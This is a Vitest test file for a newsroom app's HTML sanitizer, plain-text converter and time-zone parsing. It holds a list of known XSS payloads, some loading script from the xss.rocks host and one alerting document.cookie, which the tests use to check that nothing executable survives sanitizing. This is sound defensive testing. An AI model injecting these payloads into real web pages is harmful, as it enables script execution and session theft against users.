import { describe, expect, it } from 'vitest';
import { bodyToText, cleanBody, sanitizeBody } from '@/lib/articles/sanitize';

// Vectors from the OWASP XSS Filter Evasion Cheat Sheet and PayloadsAllTheThings (XSS Injection).
const vectors = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=http://xss.rocks/xss.js></SCRIPT>',
  '<IMG SRC="javascript:alert(\'XSS\');">',
  '<IMG SRC=JaVaScRiPt:alert(\'XSS\')>',
  '<IMG SRC=`javascript:alert("RSnake says, \'XSS\'")`>',
  '<a onmouseover="alert(document.cookie)">xxs link</a>',
  '<IMG """><SCRIPT>alert("XSS")</SCRIPT>"\\>',
  '<IMG SRC=/ onerror="alert(String.fromCharCode(88,83,83))"></img>',
  '<img src=x onerror="&#0000106&#0000097&#0000118&#0000097&#0000115&#0000099&#0000114&#0000105&#0000112&#0000116&#0000058&#0000097&#0000108&#0000101&#0000114&#0000116&#0000040&#0000039&#0000088&#0000083&#0000083&#0000039&#0000041">',
  '<IMG SRC="jav&#x09;ascript:alert(\'XSS\');">',
  '<IMG SRC=" &#14;  javascript:alert(\'XSS\');">',
  '<SCRIPT/XSS SRC="http://xss.rocks/xss.js"></SCRIPT>',
  '<BODY onload!#$%&()*~+-_.,:;?@[/|\\]^`=alert("XSS")>',
  '<<SCRIPT>alert("XSS");//\\<</SCRIPT>',
  '<iframe src=http://xss.rocks/scriptlet.html <',
  '<svg/onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
  '<a href="javascript:alert(1)">click</a>',
  '<a href="&#106;&#97;&#118;&#97;&#115;&#99;&#114;&#105;&#112;&#116;&#58;alert(1)">click</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">click</a>',
  '<a href=" javascript:alert(1)">click</a>',
  '<details open ontoggle=alert(1)>',
  '<input autofocus onfocus=alert(1)>',
  '<STYLE>@import\'http://xss.rocks/xss.css\';</STYLE>',
  '<DIV STYLE="background-image: url(javascript:alert(\'XSS\'))">',
  '<META HTTP-EQUIV="refresh" CONTENT="0;url=javascript:alert(\'XSS\');">',
  '<OBJECT TYPE="text/x-scriptlet" DATA="http://xss.rocks/scriptlet.html"></OBJECT>',
  '<EMBED SRC="data:image/svg+xml;base64,PHN2ZyB4bWxuczpzdmc9Imh0dH A6Ly93d3cudzMub3JnLzIwMDAvc3ZnIiB4bWxucz0iaHR0cDovL3d3dy53My5vcmcv MjAwMC9zdmciIHhtbG5zOnhsaW5rPSJodHRwOi8vd3d3LnczLm9yZy8xOTk5L3hs aW5rIiB2ZXJzaW9uPSIxLjAiIHg9IjAiIHk9IjAiIHdpZHRoPSIxOTQiIGhlaWdodD0iMjAw IiBpZD0ieHNzIj48c2NyaXB0IHR5cGU9InRleHQvZWNtYXNjcmlwdCI+YWxlcnQoIlh TUyIpOzwvc2NyaXB0Pjwvc3ZnPg==" type="image/svg+xml" AllowScriptAccess="always"></EMBED>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<form><button formaction=javascript:alert(1)>X</button></form>',
  '<base href="javascript:alert(1)//">',
  '<p style="x:expression(alert(1))">styled</p>',
  '<template><script>alert(1)</script></template>',
  '"><img src=x onerror=alert(1)>',
];

describe('sanitizeBody', () => {
  it.each(vectors)('leaves nothing executable from %s', (vector) => {
    const clean = sanitizeBody(`<p>before</p>${vector}<p>after</p>`);
    expect(clean).not.toMatch(/<script|<iframe|<object|<embed|<svg|<math|<style|<meta|<base|<form|<input|<button|<details|<template|<noscript/i);
    expect(clean).not.toMatch(/\son[a-z]+\s*=/i);
    expect(clean).not.toMatch(/(href|src)\s*=\s*"\s*(javascript|data|vbscript):/i);
    expect(clean).not.toMatch(/style=/i);
    expect(clean).toContain('<p>before</p>');
    // Cleaning is idempotent: what is stored passes the allowlist again unchanged.
    expect(sanitizeBody(clean)).toBe(clean);
  });

  it('keeps the newsroom formatting', () => {
    const html = '<h2>Sub</h2><p>A <strong>bold</strong> <em>claim</em> with <a href="https://example.org/x">a source</a>.</p><ul><li>one</li></ul><blockquote><p>quote</p></blockquote>';
    expect(sanitizeBody(html)).toBe(
      '<h2>Sub</h2><p>A <strong>bold</strong> <em>claim</em> with <a href="https://example.org/x" rel="noopener noreferrer">a source</a>.</p><ul><li>one</li></ul><blockquote><p>quote</p></blockquote>',
    );
  });

  it('keeps the words of unknown tags and drops the code of dangerous ones', () => {
    expect(sanitizeBody('<p><span class="x">kept</span><script>lost()</script></p>')).toBe('<p>kept</p>');
  });

  it('turns a stray h1 into an h2 (one h1 per page: the headline)', () => {
    expect(sanitizeBody('<h1>Title</h1>')).toBe('<h2>Title</h2>');
  });
});

describe('bodyToText', () => {
  it('gives paragraphs as plain text with entities decoded', () => {
    expect(bodyToText('<p>Tom &amp; Jerry &lt;3</p><p>Second&nbsp;line<br>break</p>')).toBe('Tom & Jerry <3\n\nSecond line\nbreak');
    expect(cleanBody('<p>x</p><script>y</script>')).toEqual({ body: '<p>x</p>', bodyText: 'x' });
  });
});

describe('datetime-local in the site zone', async () => {
  const { parseLocalDateTime, toLocalDateTimeInput } = await import('@/lib/articles/schema');
  it('reads wall-clock times in the given zone, across daylight saving', () => {
    expect(parseLocalDateTime('2030-01-15T09:00', 'UTC')?.toISOString()).toBe('2030-01-15T09:00:00.000Z');
    expect(parseLocalDateTime('2030-01-15T09:00', 'Europe/London')?.toISOString()).toBe('2030-01-15T09:00:00.000Z');
    expect(parseLocalDateTime('2030-07-15T09:00', 'Europe/London')?.toISOString()).toBe('2030-07-15T08:00:00.000Z');
    expect(parseLocalDateTime('2030-07-15T09:00', 'Asia/Tehran')?.toISOString()).toBe('2030-07-15T05:30:00.000Z');
    expect(parseLocalDateTime('tomorrow', 'UTC')).toBeNull();
    expect(toLocalDateTimeInput('2030-07-15T08:00:00.000Z', 'Europe/London')).toBe('2030-07-15T09:00');
  });
});
